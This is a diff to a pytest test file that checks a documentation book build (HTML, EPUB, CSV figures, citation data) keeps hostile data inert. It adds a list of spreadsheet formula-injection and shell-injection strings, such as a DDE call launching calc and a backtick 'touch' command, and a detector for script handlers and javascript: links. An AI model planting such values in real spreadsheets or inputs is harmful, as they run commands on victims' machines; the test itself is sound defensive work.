@@ -1,7 +1,11 @@
 """Text from data stays text: no cell, description or address becomes markup of a page."""
 
 import csv
+import io
 import json
+import re
+import zipfile
+from xml.etree import ElementTree
 
 import pytest
 from bs4 import BeautifulSoup
@@ -18,6 +22,19 @@ HOSTILE = (
 ONE_LINE = " ".join(HOSTILE.split())
 # Without the ends of lines that few take for one: they are refused in cells (test_data.py).
 IN_CELLS = f" {ONE_LINE}"
+# What a spreadsheet or a shell behind it would run.
+FORMULAS = [
+    "=cmd|'/c calc'!A1",
+    '=HYPERLINK("https://example.com/?"&A1,"a")',
+    "@SUM(1+1)*cmd|'/c calc'!A0",
+    "+1+cmd|'/c calc'!A1",
+    "-2+3+cmd|'/c calc'!A1",
+    "\t=1+1",
+    "\r=1+1",
+    "\uff1d1+1",
+    "%0A-1+1=1",
+    "$(touch x)`touch y`;|&",
+]
 PAGE = """# A page
 
 ```{code-cell} ipython3
@@ -33,6 +50,7 @@ mystnb:
       Source: this test.
 ---
 import altair as alt
+import pandas as pd
 from computegap import audit, ledger
 from computegap.package import resources
 from computegap.show import charts, claims, frames
@@ -42,6 +60,24 @@ charts.use()
 sources = load("sources").head(5)
 alt.Chart(sources).mark_bar().encode(
     alt.X("title:N"), alt.Y("count()"), alt.Color("publisher:N"), tooltip=["title", "note"]
+)
+```
+
+```{code-cell} ipython3
+---
+mystnb:
+  image:
+    alt: Bars.
+  figure:
+    name: fig-formulas
+    caption: |
+      Bars.
+
+      Source: this test.
+---
+said = %s
+alt.Chart(pd.DataFrame({"said": said, "value": [-1.5] * len(said)})).mark_bar().encode(
+    alt.Y("said:N"), alt.X("value:Q")
 )
 ```
 
@@ -138,10 +174,12 @@ def hostile(tmp_path_factory) -> SmallBook:
     ]
     shown.append(TABLE % ("listed", 'frames.sources("chips", "chip_owners", "evidence")'))
     shown.append(TABLE % ("audit", "audit.ten()"))
-    book.page(PAGE + "".join(shown))
+    book.page(PAGE % FORMULAS + "".join(shown))
     book.add_page("data", (ROOT / "book/data.md").read_text(encoding="utf-8"))
     book.add_page("references", "# References\n\n```{bibliography}\n:all:\n```\n")
     done = book.build()
+    assert done.returncode == 0, done.stdout[-6000:]
+    done = book.build("--builder", "custom", "--custom-builder", "epub")
     assert done.returncode == 0, done.stdout[-6000:]
     return book
 
@@ -194,6 +232,82 @@ def test_hostile_text_ends_no_block_of_the_page(hostile, pages):
     table = BeautifulSoup(parts["table"], "html.parser")
     assert table.select("img, script, a") == [] and IN_CELLS.strip() in table.get_text()
     assert any(IN_CELLS in row["title"] for rows in parts["datasets"].values() for row in rows)
+
+
+def active(path: str, markup: str) -> list[str]:
+    """What of a page, a chapter of an EPUB or a picture would run, load or lead elsewhere."""
+    found = []
+    # A chapter of an EPUB is XML; what a lenient reader would take for an element counts.
+    html = re.sub(r"^<\?xml[^>]*>", "", markup)
+    for tag in BeautifulSoup(html, "html.parser").find_all(True):
+        addresses_of = [tag.get(key, "") for key in ("href", "xlink:href", "src", "action")]
+        led = [a for a in addresses_of if re.match(r"(?i)\s*(javascript|vbscript|data:text)", a)]
+        led += [a for a in addresses_of if "example.com" in a]
+        handlers = [key for key in tag.attrs if key.lower().startswith("on")]
+        data = "json" in tag.get("type", "") or tag.get("src")
+        run = tag.name in ("iframe", "object", "embed", "foreignobject")
+        if led or handlers or run or (tag.name == "script" and not data):
+            found.append(f"{path}: {str(tag)[:120]}")
+    return found
+
+
+def test_every_file_of_the_book_is_what_its_name_says_and_nothing_in_it_is_active(hostile):
+    html, kinds = hostile.root / "_build/html", set()
+    for path in sorted(html.rglob("*")):
+        # Sources and data are handed out as they are; nothing opens them but what asks for them.
+        if not path.is_file() or path.parts[len(html.parts)] in ("_sources", "data", "_static"):
+            continue
+        kinds.add(path.suffix)
+        if path.suffix in (".html", ".svg"):
+            assert active(path.name, path.read_text(encoding="utf-8")) == []
+        if path.suffix in (".svg", ".xml"):
+            ElementTree.parse(path)
+        elif path.suffix in (".json", ".ipynb"):
+            assert json.loads(path.read_text(encoding="utf-8"))
+        elif path.suffix == ".zip":
+            with zipfile.ZipFile(path) as packed:
+                names = packed.namelist()
+            assert names and not [n for n in names if n.startswith("/") or ".." in n]
+        elif path.suffix == ".txt":
+            text = path.read_text(encoding="utf-8")
+            # A list of links and paragraphs: hostile text opens no line, so it makes no block.
+            assert [line for line in text.splitlines() if ":::{note}" in line[:8]] == []
+    assert kinds >= {".html", ".svg", ".png", ".csv", ".json", ".js", ".ipynb", ".zip", ".txt"}
+
+
+def test_hostile_text_makes_nothing_active_in_an_epub(hostile):
+    (path,) = (hostile.root / "_build/epub").glob("*.epub")
+    with zipfile.ZipFile(path) as epub:
+        chapters = [n for n in epub.namelist() if n.endswith((".xhtml", ".opf", ".ncx"))]
+        for name in chapters:
+            text = epub.read(name).decode()
+            ElementTree.fromstring(text)
+            assert active(name, text) == []
+    assert "book/index.xhtml" in chapters
+
+
+def test_a_spreadsheet_runs_no_cell_that_a_figure_gives_it(hostile):
+    text = (hostile.root / "_build/html/_figures/fig-formulas.csv").read_text("utf-8-sig")
+    rows = list(csv.DictReader(io.StringIO(text, newline="")))
+    assert len(rows) == len(FORMULAS)
+    assert [row for row in rows if row["said"][0] in "=+-@\t\r\uff1d"] == []
+    assert {row["value"] for row in rows} == {"-1.5"}
+    for path in (hostile.root / "_build/html/_figures").glob("*.csv"):
+        with open(path, encoding="utf-8-sig", newline="") as file:
+            cells = [cell for row in csv.reader(file) for cell in row if cell]
+        assert [cell for cell in cells if cell[0] in "=@\t\r\uff1d"] == [], path.name
+
+
+def test_hostile_titles_are_one_entry_in_every_format_of_citations(hostile, pages):
+    """What the pages' script makes citations from is data, and holds each title in one line."""
+    for page in pages.values():
+        script = page.select_one("script#cite-data")
+        if script is None:
+            continue
+        things = json.loads(script.string)["things"]
+        assert things
+        # U+2028 and others end a line for readers of RIS and BibTeX.
+        assert [t for t in things.values() for part in t if len(str(part).splitlines()) > 1] == []
 
 
 @pytest.mark.parametrize(
